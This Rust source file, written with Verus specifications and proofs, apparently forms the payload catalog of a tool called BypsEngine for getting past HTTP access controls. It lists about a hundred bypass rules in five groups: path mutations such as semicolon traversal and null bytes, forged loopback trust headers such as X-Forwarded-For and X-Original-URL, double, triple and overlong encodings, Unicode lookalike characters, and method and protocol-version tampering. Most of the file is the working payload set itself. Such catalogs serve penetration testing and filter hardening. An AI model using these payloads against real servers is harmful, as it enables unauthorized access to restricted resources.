use vstd::prelude::*;
use crate::catalog::{BypsEngine, Rule, TechniqueRules};
use crate::technique::{catalog_order, Technique};

verus! {

/// A rule that puts `prefix` before the path and `suffix` after it, and
/// changes nothing else.
pub open spec fn affix_spec(prefix: &'static str, suffix: &'static str, description: &'static str) -> Rule {
    Rule {
        method: "",
        prefix,
        suffix,
        upper: false,
        encode: 0,
        header_name: "",
        header_value: "",
        routed: false,
        host: "",
        version: "",
        description,
    }
}

/// A rule that adds the header `name: value`.
pub open spec fn header_spec(name: &'static str, value: &'static str, description: &'static str) -> Rule {
    Rule { header_name: name, header_value: value, ..affix_spec("", "", description) }
}

/// A rule that requests `/` and names the real path in header `name`.
pub open spec fn routed_spec(name: &'static str, description: &'static str) -> Rule {
    Rule { header_name: name, routed: true, ..affix_spec("", "", description) }
}

/// A rule that sends `host` as the `Host` header.
pub open spec fn host_rule_spec(host: &'static str, description: &'static str) -> Rule {
    Rule { host, ..affix_spec("", "", description) }
}

/// A rule that uses `method` in place of `GET`.
pub open spec fn method_rule_spec(method: &'static str, description: &'static str) -> Rule {
    Rule { method, ..affix_spec("", "", description) }
}

/// A rule that sends `POST` and asks through header `name` for `GET`.
pub open spec fn method_override_spec(name: &'static str, description: &'static str) -> Rule {
    Rule { method: "POST", header_name: name, header_value: "GET", ..affix_spec("", "", description) }
}

/// A rule that announces protocol `version`.
pub open spec fn version_rule_spec(version: &'static str, description: &'static str) -> Rule {
    Rule { version, ..affix_spec("", "", description) }
}

fn affix(prefix: &'static str, suffix: &'static str, description: &'static str) -> (r: Rule)
    ensures
        r == affix_spec(prefix, suffix, description),
{
    Rule {
        method: "",
        prefix,
        suffix,
        upper: false,
        encode: 0,
        header_name: "",
        header_value: "",
        routed: false,
        host: "",
        version: "",
        description,
    }
}

fn header(name: &'static str, value: &'static str, description: &'static str) -> (r: Rule)
    ensures
        r == header_spec(name, value, description),
{
    Rule { header_name: name, header_value: value, ..affix("", "", description) }
}

fn routed(name: &'static str, description: &'static str) -> (r: Rule)
    ensures
        r == routed_spec(name, description),
{
    Rule { header_name: name, routed: true, ..affix("", "", description) }
}

fn host_rule(host: &'static str, description: &'static str) -> (r: Rule)
    ensures
        r == host_rule_spec(host, description),
{
    Rule { host, ..affix("", "", description) }
}

fn method_rule(method: &'static str, description: &'static str) -> (r: Rule)
    ensures
        r == method_rule_spec(method, description),
{
    Rule { method, ..affix("", "", description) }
}

fn method_override(name: &'static str, description: &'static str) -> (r: Rule)
    ensures
        r == method_override_spec(name, description),
{
    Rule { method: "POST", header_name: name, header_value: "GET", ..affix("", "", description) }
}

fn version_rule(version: &'static str, description: &'static str) -> (r: Rule)
    ensures
        r == version_rule_spec(version, description),
{
    Rule { version, ..affix("", "", description) }
}

/// The path_bypass rules: trailing and leading segments, case, whitespace
/// and null injection, traversal.
pub open spec fn path_table() -> Seq<Rule> {
    seq![
        affix_spec("", "/", "trailing slash"),
        affix_spec("", "/.", "trailing dot segment"),
        affix_spec("/.", "", "leading dot segment"),
        affix_spec("/", "", "doubled leading slash"),
        affix_spec("", "%20", "trailing encoded space"),
        affix_spec("", "..;/", "semicolon traversal"),
        Rule { upper: true, ..affix_spec("", "", "upper-cased path") },
        affix_spec("", "%09", "trailing encoded tab"),
        affix_spec("", "%00", "trailing null byte"),
        affix_spec("", ";", "trailing semicolon"),
        affix_spec("", "/*", "wildcard segment"),
        affix_spec("", "?", "empty query marker"),
        affix_spec("", "#", "fragment marker"),
        affix_spec("", "//", "doubled trailing slash"),
        affix_spec("", "/./", "trailing dot directory"),
        affix_spec("/x/..", "", "traversal through a dummy segment"),
        affix_spec("", ".json", "json extension"),
        affix_spec("", ".html", "html extension"),
        affix_spec("", "~", "trailing tilde"),
        affix_spec("", "%20/", "encoded space before a slash"),
        affix_spec("", "/..;/", "slash semicolon traversal"),
        affix_spec("/;", "", "leading empty path parameter"),
        affix_spec("", "/%20", "slash then encoded space"),
        affix_spec("/.;", "", "leading dot path parameter"),
    ]
}

fn path_rules() -> (r: Vec<Rule>)
    ensures
        r@ == path_table(),
{
    let r = vec![
        affix("", "/", "trailing slash"),
        affix("", "/.", "trailing dot segment"),
        affix("/.", "", "leading dot segment"),
        affix("/", "", "doubled leading slash"),
        affix("", "%20", "trailing encoded space"),
        affix("", "..;/", "semicolon traversal"),
        Rule { upper: true, ..affix("", "", "upper-cased path") },
        affix("", "%09", "trailing encoded tab"),
        affix("", "%00", "trailing null byte"),
        affix("", ";", "trailing semicolon"),
        affix("", "/*", "wildcard segment"),
        affix("", "?", "empty query marker"),
        affix("", "#", "fragment marker"),
        affix("", "//", "doubled trailing slash"),
        affix("", "/./", "trailing dot directory"),
        affix("/x/..", "", "traversal through a dummy segment"),
        affix("", ".json", "json extension"),
        affix("", ".html", "html extension"),
        affix("", "~", "trailing tilde"),
        affix("", "%20/", "encoded space before a slash"),
        affix("", "/..;/", "slash semicolon traversal"),
        affix("/;", "", "leading empty path parameter"),
        affix("", "/%20", "slash then encoded space"),
        affix("/.;", "", "leading dot path parameter"),
    ];
    assert(r@ =~= path_table());
    r
}

/// The header_forge rules: trust headers with loopback and private values,
/// rewritten-URL headers, and `Host` overrides.
pub open spec fn header_table() -> Seq<Rule> {
    seq![
        header_spec("X-Forwarded-For", "127.0.0.1", "forwarded for loopback"),
        routed_spec("X-Original-URL", "original URL header"),
        routed_spec("X-Rewrite-URL", "rewrite URL header"),
        header_spec("X-Forwarded-Host", "localhost", "forwarded host localhost"),
        header_spec("X-Real-IP", "127.0.0.1", "real IP loopback"),
        header_spec("X-Custom-IP-Authorization", "127.0.0.1", "custom IP authorization"),
        host_rule_spec("localhost", "Host header localhost"),
        header_spec("X-Client-IP", "127.0.0.1", "client IP loopback"),
        header_spec("X-Forwarded-For", "10.0.0.1", "forwarded for private address"),
        header_spec("X-Forwarded-For", "192.168.0.1", "forwarded for LAN address"),
        header_spec("X-Originating-IP", "127.0.0.1", "originating IP loopback"),
        header_spec("X-Remote-IP", "127.0.0.1", "remote IP loopback"),
        header_spec("X-Remote-Addr", "127.0.0.1", "remote address loopback"),
        header_spec("True-Client-IP", "127.0.0.1", "true client IP loopback"),
        header_spec("Forwarded", "for=127.0.0.1", "standard forwarded header"),
        header_spec("X-Host", "localhost", "alternate host header"),
        host_rule_spec("127.0.0.1", "Host header loopback"),
        header_spec("Client-IP", "127.0.0.1", "client IP header"),
        header_spec("X-ProxyUser-Ip", "127.0.0.1", "proxy user IP"),
        header_spec("X-Forwarded-Server", "localhost", "forwarded server localhost"),
        header_spec("X-HTTP-Host-Override", "localhost", "host override header"),
        header_spec("X-Forwarded-For", "::1", "forwarded for IPv6 loopback"),
    ]
}

fn header_rules() -> (r: Vec<Rule>)
    ensures
        r@ == header_table(),
{
    let r = vec![
        header("X-Forwarded-For", "127.0.0.1", "forwarded for loopback"),
        routed("X-Original-URL", "original URL header"),
        routed("X-Rewrite-URL", "rewrite URL header"),
        header("X-Forwarded-Host", "localhost", "forwarded host localhost"),
        header("X-Real-IP", "127.0.0.1", "real IP loopback"),
        header("X-Custom-IP-Authorization", "127.0.0.1", "custom IP authorization"),
        host_rule("localhost", "Host header localhost"),
        header("X-Client-IP", "127.0.0.1", "client IP loopback"),
        header("X-Forwarded-For", "10.0.0.1", "forwarded for private address"),
        header("X-Forwarded-For", "192.168.0.1", "forwarded for LAN address"),
        header("X-Originating-IP", "127.0.0.1", "originating IP loopback"),
        header("X-Remote-IP", "127.0.0.1", "remote IP loopback"),
        header("X-Remote-Addr", "127.0.0.1", "remote address loopback"),
        header("True-Client-IP", "127.0.0.1", "true client IP loopback"),
        header("Forwarded", "for=127.0.0.1", "standard forwarded header"),
        header("X-Host", "localhost", "alternate host header"),
        host_rule("127.0.0.1", "Host header loopback"),
        header("Client-IP", "127.0.0.1", "client IP header"),
        header("X-ProxyUser-Ip", "127.0.0.1", "proxy user IP"),
        header("X-Forwarded-Server", "localhost", "forwarded server localhost"),
        header("X-HTTP-Host-Override", "localhost", "host override header"),
        header("X-Forwarded-For", "::1", "forwarded for IPv6 loopback"),
    ];
    assert(r@ =~= header_table());
    r
}

/// The url_encoding rules: single, double and triple percent-encoding,
/// upper-case hex, overlong UTF-8.
pub open spec fn encoding_table() -> Seq<Rule> {
    seq![
        Rule { encode: 1, ..affix_spec("", "", "first path character encoded") },
        Rule { encode: 2, ..affix_spec("", "", "first path character double-encoded") },
        Rule { encode: 4, ..affix_spec("", "", "first path character encoded, upper-case hex") },
        Rule { encode: 3, ..affix_spec("", "", "first path character triple-encoded") },
        affix_spec("", "%2f", "single-encoded slash"),
        affix_spec("", "%252f", "double-encoded slash"),
        affix_spec("", "%2F", "upper-case hex slash"),
        affix_spec("/%2e", "", "encoded dot segment"),
        affix_spec("", "%c0%af", "overlong slash"),
        affix_spec("", "%25252f", "triple-encoded slash"),
        affix_spec("/%252e", "", "double-encoded dot segment"),
        affix_spec("/%c0%ae", "", "overlong dot segment"),
        affix_spec("", "%2e", "trailing encoded dot"),
        affix_spec("", "%252e", "trailing double-encoded dot"),
        affix_spec("", "%2E", "trailing upper-case hex dot"),
        affix_spec("", "%3b", "encoded semicolon"),
        affix_spec("", "%23", "encoded hash"),
        affix_spec("", "%3f", "encoded question mark"),
        affix_spec("", "%e0%80%af", "three-byte overlong slash"),
        affix_spec("", "%5c", "encoded backslash"),
        affix_spec("", "%255c", "double-encoded backslash"),
        affix_spec("", "%u002f", "IIS unicode slash"),
        affix_spec("/%2e%2e", "", "encoded parent segment"),
        affix_spec("", "%2f%2e", "encoded slash dot"),
    ]
}

fn encoding_rules() -> (r: Vec<Rule>)
    ensures
        r@ == encoding_table(),
{
    let r = vec![
        Rule { encode: 1, ..affix("", "", "first path character encoded") },
        Rule { encode: 2, ..affix("", "", "first path character double-encoded") },
        Rule { encode: 4, ..affix("", "", "first path character encoded, upper-case hex") },
        Rule { encode: 3, ..affix("", "", "first path character triple-encoded") },
        affix("", "%2f", "single-encoded slash"),
        affix("", "%252f", "double-encoded slash"),
        affix("", "%2F", "upper-case hex slash"),
        affix("/%2e", "", "encoded dot segment"),
        affix("", "%c0%af", "overlong slash"),
        affix("", "%25252f", "triple-encoded slash"),
        affix("/%252e", "", "double-encoded dot segment"),
        affix("/%c0%ae", "", "overlong dot segment"),
        affix("", "%2e", "trailing encoded dot"),
        affix("", "%252e", "trailing double-encoded dot"),
        affix("", "%2E", "trailing upper-case hex dot"),
        affix("", "%3b", "encoded semicolon"),
        affix("", "%23", "encoded hash"),
        affix("", "%3f", "encoded question mark"),
        affix("", "%e0%80%af", "three-byte overlong slash"),
        affix("", "%5c", "encoded backslash"),
        affix("", "%255c", "double-encoded backslash"),
        affix("", "%u002f", "IIS unicode slash"),
        affix("/%2e%2e", "", "encoded parent segment"),
        affix("", "%2f%2e", "encoded slash dot"),
    ];
    assert(r@ =~= encoding_table());
    r
}

/// The unicode rules: lookalikes of `/`, `.` and `;`, and invisible characters.
pub open spec fn unicode_table() -> Seq<Rule> {
    seq![
        affix_spec("", "\u{2215}", "division slash"),
        affix_spec("", "\u{ff0f}", "fullwidth solidus"),
        affix_spec("", "%e2%88%95", "encoded division slash"),
        affix_spec("", "%ef%bc%8f", "encoded fullwidth solidus"),
        affix_spec("/\u{ff0e}", "", "fullwidth full stop segment"),
        affix_spec("", "\u{ff0e}", "trailing fullwidth full stop"),
        affix_spec("", "\u{2024}", "one dot leader"),
        affix_spec("", "%e2%80%a4", "encoded one dot leader"),
        affix_spec("", "\u{3002}", "ideographic full stop"),
        affix_spec("", "\u{fe52}", "small full stop"),
        affix_spec("", "\u{ff1b}", "fullwidth semicolon"),
        affix_spec("", "\u{200b}", "zero width space"),
        affix_spec("", "%e2%80%8b", "encoded zero width space"),
        affix_spec("", "\u{2044}", "fraction slash"),
        affix_spec("", "\u{29f8}", "big solidus"),
        affix_spec("", "%ef%bc%8e", "encoded fullwidth full stop"),
    ]
}

fn unicode_rules() -> (r: Vec<Rule>)
    ensures
        r@ == unicode_table(),
{
    let r = vec![
        affix("", "\u{2215}", "division slash"),
        affix("", "\u{ff0f}", "fullwidth solidus"),
        affix("", "%e2%88%95", "encoded division slash"),
        affix("", "%ef%bc%8f", "encoded fullwidth solidus"),
        affix("/\u{ff0e}", "", "fullwidth full stop segment"),
        affix("", "\u{ff0e}", "trailing fullwidth full stop"),
        affix("", "\u{2024}", "one dot leader"),
        affix("", "%e2%80%a4", "encoded one dot leader"),
        affix("", "\u{3002}", "ideographic full stop"),
        affix("", "\u{fe52}", "small full stop"),
        affix("", "\u{ff1b}", "fullwidth semicolon"),
        affix("", "\u{200b}", "zero width space"),
        affix("", "%e2%80%8b", "encoded zero width space"),
        affix("", "\u{2044}", "fraction slash"),
        affix("", "\u{29f8}", "big solidus"),
        affix("", "%ef%bc%8e", "encoded fullwidth full stop"),
    ];
    assert(r@ =~= unicode_table());
    r
}

/// The protocol_abuse rules: other methods, method overrides, version
/// changes.
pub open spec fn protocol_table() -> Seq<Rule> {
    seq![
        method_rule_spec("HEAD", "HEAD method"),
        method_rule_spec("POST", "POST method"),
        method_override_spec("X-HTTP-Method-Override", "POST overridden to GET"),
        version_rule_spec("HTTP/1.0", "HTTP/1.0 downgrade"),
        method_rule_spec("OPTIONS", "OPTIONS method"),
        method_rule_spec("PUT", "PUT method"),
        method_override_spec("X-HTTP-Method", "POST with method header"),
        method_override_spec("X-Method-Override", "POST with method override header"),
        method_rule_spec("PATCH", "PATCH method"),
        method_rule_spec("TRACE", "TRACE method"),
        header_spec("Upgrade", "h2c", "cleartext HTTP/2 upgrade"),
        version_rule_spec("HTTP/2", "HTTP/2 version hint"),
        method_rule_spec("get", "lower-case method"),
        version_rule_spec("HTTP/0.9", "HTTP/0.9 downgrade"),
    ]
}

fn protocol_rules() -> (r: Vec<Rule>)
    ensures
        r@ == protocol_table(),
{
    let r = vec![
        method_rule("HEAD", "HEAD method"),
        method_rule("POST", "POST method"),
        method_override("X-HTTP-Method-Override", "POST overridden to GET"),
        version_rule("HTTP/1.0", "HTTP/1.0 downgrade"),
        method_rule("OPTIONS", "OPTIONS method"),
        method_rule("PUT", "PUT method"),
        method_override("X-HTTP-Method", "POST with method header"),
        method_override("X-Method-Override", "POST with method override header"),
        method_rule("PATCH", "PATCH method"),
        method_rule("TRACE", "TRACE method"),
        header("Upgrade", "h2c", "cleartext HTTP/2 upgrade"),
        version_rule("HTTP/2", "HTTP/2 version hint"),
        method_rule("get", "lower-case method"),
        version_rule("HTTP/0.9", "HTTP/0.9 downgrade"),
    ];
    assert(r@ =~= protocol_table());
    r
}

/// The rules registered for each technique.
pub open spec fn catalog_rules(t: Technique) -> Seq<Rule> {
    match t {
        Technique::PathBypass => path_table(),
        Technique::HeaderForge => header_table(),
        Technique::UrlEncoding => encoding_table(),
        Technique::Unicode => unicode_table(),
        Technique::ProtocolAbuse => protocol_table(),
    }
}

impl BypsEngine {
    /// The built-in registry: every technique with its rules.
    pub fn standard() -> (r: BypsEngine)
        ensures
            r.wf(),
            forall|t: Technique| #[trigger] r.rules_of(t) == catalog_rules(t),
    {
        let entries = vec![
            TechniqueRules { technique: Technique::PathBypass, rules: path_rules() },
            TechniqueRules { technique: Technique::HeaderForge, rules: header_rules() },
            TechniqueRules { technique: Technique::UrlEncoding, rules: encoding_rules() },
            TechniqueRules { technique: Technique::Unicode, rules: unicode_rules() },
            TechniqueRules { technique: Technique::ProtocolAbuse, rules: protocol_rules() },
        ];
        BypsEngine { entries }
    }
}

} // verus!
